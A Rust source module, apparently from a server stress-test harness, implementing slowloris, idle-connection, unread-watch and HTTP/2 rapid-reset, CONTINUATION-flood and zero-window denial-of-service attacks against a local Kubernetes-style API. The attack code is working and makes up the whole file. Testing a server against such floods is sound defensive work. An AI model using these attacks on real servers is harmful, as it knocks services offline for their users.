//! Attacks by what is not sent, not read, or not finished: each holds many connections for a while.

use std::time::Duration;

use tokio::io::AsyncReadExt as _;
use tokio::task::JoinSet;

use super::wire::{Peer, frame, get_block, head, preface};

const MAPS: &str = "/api/v1/namespaces/default/configmaps";

/// The attacks: name, connections, what one of them is.
pub const ALL: &[(&str, usize, Kind)] = &[
    ("slow heads (anonymous)", 1_000, Kind::SlowHead),
    ("slow bodies", 600, Kind::SlowBody),
    ("silent connections (anonymous)", 2_000, Kind::Silent),
    ("no TLS (anonymous)", 1_000, Kind::Garbage),
    ("lists that nobody reads", 300, Kind::SlowList),
    ("watches that nobody reads", 1_000, Kind::SlowWatch),
    ("watches", 2_000, Kind::Watch),
    ("HTTP/2 rapid reset (anonymous)", 50, Kind::RapidReset),
    ("HTTP/2 streams", 50, Kind::Streams),
    ("HTTP/2 heads without end (anonymous)", 50, Kind::Continuation),
    ("HTTP/2 lists with no window", 50, Kind::NoWindow),
];

/// What one connection does.
#[derive(Clone, Copy)]
pub enum Kind {
    SlowHead,
    SlowBody,
    Silent,
    Garbage,
    SlowList,
    SlowWatch,
    Watch,
    RapidReset,
    Streams,
    Continuation,
    NoWindow,
}

/// Runs one attack; returns when its time is over.
pub async fn run(peer: &Peer, token: &str, connections: usize, kind: Kind, lasts: Duration) {
    let mut tasks = JoinSet::new();
    for at in 0..connections {
        let (own, token) = (peer.clone(), token.to_owned());
        tasks.spawn(async move {
            let clock = own.clock.clone();
            let ended = clock.timeout(lasts, one(&own, &token, at, kind)).await;
            own.sums.count(ended.map_or(Some(0), |_| None));
        });
        if at % 50 == 49 {
            peer.clock.sleep(Duration::from_millis(20)).await;
        }
    }
    while tasks.join_next().await.is_some() {}
}

async fn one(peer: &Peer, token: &str, at: usize, kind: Kind) -> Option<()> {
    match kind {
        Kind::SlowHead => drip(peer, head("GET", "/api", "", "", 0)).await,
        Kind::SlowBody => slow_body(peer, token).await,
        Kind::Silent => {
            let mut stream = peer.connect(at % 2 == 0).await?;
            until_cut(&mut stream).await
        }
        Kind::Garbage => garbage(peer).await,
        Kind::SlowList => unread(peer, &head("GET", MAPS, token, "", 0)).await,
        Kind::SlowWatch => unread(peer, &head("GET", &format!("{MAPS}?watch=1&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true"), token, "", 0)).await,
        Kind::Watch => {
            let mut stream = peer.connect(false).await?;
            peer.write(&mut stream, &head("GET", &format!("{MAPS}?watch=1"), token, "", 0)).await.then_some(())?;
            until_cut(&mut stream).await
        }
        Kind::RapidReset => rapid_reset(peer).await,
        Kind::Streams => streams(peer, token).await,
        Kind::Continuation => continuation(peer).await,
        Kind::NoWindow => no_window(peer, token).await,
    }
}

/// Reads until the server has had enough.
async fn until_cut(stream: &mut (impl tokio::io::AsyncRead + Unpin)) -> Option<()> {
    let mut piece = vec![0; 16 * 1024];
    while stream.read(&mut piece).await.is_ok_and(|read| read > 0) {}
    Some(())
}

async fn drip(peer: &Peer, bytes: Vec<u8>) -> Option<()> {
    let mut stream = peer.connect(false).await?;
    for byte in bytes {
        peer.write(&mut stream, &[byte]).await.then_some(())?;
        peer.clock.sleep(Duration::from_secs(1)).await;
    }
    Some(())
}

/// Nearly all of the largest body at once, then one byte a second.
async fn slow_body(peer: &Peer, token: &str) -> Option<()> {
    let mut stream = peer.connect(false).await?;
    let length = 3 * 1024 * 1024 - 1;
    peer.write(&mut stream, &head("POST", MAPS, token, "application/json", length)).await.then_some(())?;
    peer.write(&mut stream, &vec![b' '; length - 1_000]).await.then_some(())?;
    for _ in 0..999 {
        peer.write(&mut stream, b" ").await.then_some(())?;
        peer.clock.sleep(Duration::from_secs(1)).await;
    }
    Some(())
}

async fn garbage(peer: &Peer) -> Option<()> {
    use tokio::io::AsyncWriteExt as _;
    let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", peer.port)).await.ok()?;
    for round in 0u8.. {
        stream.write_all(&[round; 512]).await.ok()?;
        peer.clock.sleep(Duration::from_millis(500)).await;
    }
    Some(())
}

/// Asks on one connection again and again and reads nothing.
async fn unread(peer: &Peer, request: &[u8]) -> Option<()> {
    let mut stream = peer.connect(false).await?;
    peer.write(&mut stream, request).await.then_some(())?;
    std::future::pending().await
}

async fn rapid_reset(peer: &Peer) -> Option<()> {
    let mut stream = peer.connect(true).await?;
    peer.write(&mut stream, &preface()).await.then_some(())?;
    let block = get_block("/api/v1/pods", "");
    for batch in 0..u32::MAX {
        let mut bytes = Vec::new();
        for id in (0..100).map(|at| 2 * (batch * 100 + at) + 1) {
            bytes.extend(frame(1, 5, id, &block));
            bytes.extend(frame(3, 0, id, &8u32.to_be_bytes()));
        }
        peer.write(&mut stream, &bytes).await.then_some(())?;
    }
    Some(())
}

async fn streams(peer: &Peer, token: &str) -> Option<()> {
    let mut stream = peer.connect(true).await?;
    peer.write(&mut stream, &preface()).await.then_some(())?;
    let block = get_block(&format!("{MAPS}?watch=1"), token);
    for id in 0..2_000u32 {
        peer.write(&mut stream, &frame(1, 5, 2 * id + 1, &block)).await.then_some(())?;
    }
    until_cut(&mut stream).await
}

async fn continuation(peer: &Peer) -> Option<()> {
    let mut stream = peer.connect(true).await?;
    peer.write(&mut stream, &preface()).await.then_some(())?;
    peer.write(&mut stream, &frame(1, 1, 1, &get_block("/api", ""))).await.then_some(())?;
    // A literal that is never indexed, over and over, and no end of the block.
    let more: Vec<u8> = b"\0\x01a\x01b".repeat(3_000);
    loop {
        peer.write(&mut stream, &frame(9, 0, 1, &more)).await.then_some(())?;
    }
}

/// A hundred large lists on one connection whose windows are zero.
async fn no_window(peer: &Peer, token: &str) -> Option<()> {
    let mut stream = peer.connect(true).await?;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]));
    let block = get_block(MAPS, token);
    (0..100u32).for_each(|id| bytes.extend(frame(1, 5, 2 * id + 1, &block)));
    peer.write(&mut stream, &bytes).await.then_some(())?;
    until_cut(&mut stream).await
}
